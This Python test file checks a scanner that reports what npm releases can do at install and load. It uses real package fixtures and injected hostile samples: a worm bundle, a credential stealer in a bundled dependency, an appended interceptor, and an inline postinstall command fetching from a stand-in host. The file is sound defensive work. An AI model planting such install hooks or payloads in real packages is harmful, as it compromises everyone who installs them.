"""What a release's code can do at install and at load (`npm.capabilities`), read from real
releases' files (tests/npm/fixtures/releases, SOURCES.md there): the hooks' commands, the
files they name and what those require, the entry points and what they require, bundled
dependencies' hooks and code; the same through the relay's reading of the tarball."""

from __future__ import annotations

import json
from pathlib import Path

from mirrorgate.npm.capabilities import INSTALL, LOAD, release_capabilities
from mirrorgate.npm.contents import contents_of
from mirrorgate.npm.jsuses import (
    CREDENTIALS,
    ENVIRONMENT,
    HOME,
    INTERCEPTS,
    NATIVE,
    NETWORK,
    OBFUSCATED,
    PROCESS,
    UNREAD,
    WRITES_HOME,
)
from tests.servers.packages import build_tarball
from tests.servers.payloads import interceptor, protest_writer, stealer, worm_bundle

RELEASES = Path(__file__).parent / "fixtures" / "releases"


def real(release: str) -> dict[str, bytes]:
    """A real release's files, by their path inside the package."""
    root = RELEASES / release
    return {str(path.relative_to(root)): path.read_bytes()
            for path in sorted(root.rglob("*")) if path.is_file()}


def with_manifest(files: dict[str, bytes], **fields: object) -> dict[str, bytes]:
    manifest = json.loads(files["package.json"])
    manifest.update(fields)
    return {**files, "package.json": json.dumps(manifest).encode()}


def test_a_real_postinstall_that_downloads_a_binary_reaches_the_network_and_spawns() -> None:
    read = release_capabilities(real("esbuild-0.24.0"))

    assert {NETWORK, PROCESS, NATIVE} <= read.at_install
    [spawn] = read.where(PROCESS, INSTALL)[:1]
    assert spawn.file == "install.js"
    assert "child_process" in spawn.call


def test_a_native_build_runs_node_gyp_at_install_named_by_the_command_or_binding_gyp() -> None:
    before, after = release_capabilities(real("bcrypt-5.1.1")), release_capabilities(
        real("bcrypt-6.0.0"))

    assert before.at_install == frozenset({NATIVE, PROCESS, NETWORK})  # node-pre-gyp downloads
    assert after.at_install == frozenset({NATIVE, PROCESS})
    assert any(item.file == "binding.gyp" for item in after.where(NATIVE, INSTALL))


def test_an_install_script_is_followed_through_the_files_it_requires() -> None:
    read = release_capabilities(real("yorkie-2.0.0"))

    # `node bin/install.js` requires ../src/install, which requires ./utils/get-hook-script
    assert [item.file for item in read.where(HOME, INSTALL)] == [
        "src/utils/get-hook-script.js"]
    assert read.at_load == frozenset()  # no main, no bin: nothing runs at load


def test_a_library_that_runs_nothing_at_install_has_no_install_capabilities() -> None:
    read = release_capabilities(real("debug-4.4.1"))

    assert read.at_install == frozenset()
    assert read.at_load == frozenset({ENVIRONMENT})  # it enumerates DEBUG_* variables
    [item] = read.where(ENVIRONMENT, LOAD)
    assert (item.file, item.call) == ("src/node.js", "Object.keys(process.env)")


def test_a_new_postinstall_running_a_worm_bundle_is_read_at_install() -> None:
    files = with_manifest({**real("chalk-5.6.0"), "bundle.js": worm_bundle()},
                          scripts={"postinstall": "node bundle.js"})

    read = release_capabilities(files)

    assert {NETWORK, PROCESS, ENVIRONMENT} <= read.at_install
    assert all(item.file == "bundle.js" for item in read.where(NETWORK, INSTALL))
    assert release_capabilities(real("chalk-5.6.0")).at_install == frozenset()


def test_a_payload_appended_to_the_entry_file_is_read_at_load() -> None:
    files = real("debug-4.4.1")
    files["src/index.js"] += interceptor("debug")

    read = release_capabilities(files)

    assert {INTERCEPTS, OBFUSCATED} <= read.at_load
    assert read.at_install == frozenset()


def test_peacenotwar_9_1_6s_missing_main_runs_its_index_js_and_writes_into_the_desktop() -> None:
    files = {"package.json": json.dumps({"name": "peacenotwar", "type": "module",
                                         "main": "node-ipc.cjs"}).encode(),
             "index.js": protest_writer()}

    read = release_capabilities(files)

    assert [item.text().split(" ")[0] for item in read.where(WRITES_HOME, LOAD)] == [
        "index.js:9"]


def test_an_inline_node_command_is_read_as_code() -> None:
    files = with_manifest(real("chalk-5.6.0"), scripts={
        "postinstall": "node -e \"require('https').get('https://payload.test/x')\""})

    read = release_capabilities(files)

    assert read.at_install == frozenset({NETWORK})


def test_a_bundled_dependencys_hook_and_its_code_are_read() -> None:
    files = {**real("chalk-5.6.0"),
             "node_modules/helper/package.json":
                 b'{"name": "helper", "main": "lib/main.js",'
                 b' "scripts": {"install": "node lib/setup.js"}}',
             "node_modules/helper/lib/setup.js": stealer("install"),
             "node_modules/helper/lib/main.js": b"module.exports = 1;\n"}

    read = release_capabilities(files)

    assert {NETWORK, CREDENTIALS, HOME, ENVIRONMENT} <= read.at_install
    assert read.where(NETWORK, INSTALL)[0].file == "node_modules/helper/lib/setup.js"


def test_a_bundled_dependency_required_by_name_is_followed_at_load() -> None:
    files = {**real("chalk-5.6.0"),
             "node_modules/helper/package.json": b'{"name": "helper", "main": "main.js"}',
             "node_modules/helper/main.js": stealer("load")}
    files["source/index.js"] += b"\nimport 'helper';\nrequire('helper');\n"

    read = release_capabilities(files)

    assert NETWORK in read.at_load
    assert read.where(NETWORK, LOAD)[0].file == "node_modules/helper/main.js"


def test_the_relays_reading_of_the_tarball_reads_the_same_capabilities() -> None:
    files = with_manifest({**real("chalk-5.6.0"), "bundle.js": worm_bundle()},
                          scripts={"postinstall": "node bundle.js"})

    read = contents_of(build_tarball(files))

    assert read.capabilities == release_capabilities(files)


def test_code_that_runs_and_was_not_read_whole_is_unread_not_clean() -> None:
    files = real("chalk-5.6.0")
    files["source/index.js"] = b"eval(x);" * 60_000  # past the places looked at per file

    read = release_capabilities(files)

    assert UNREAD in read.at_load
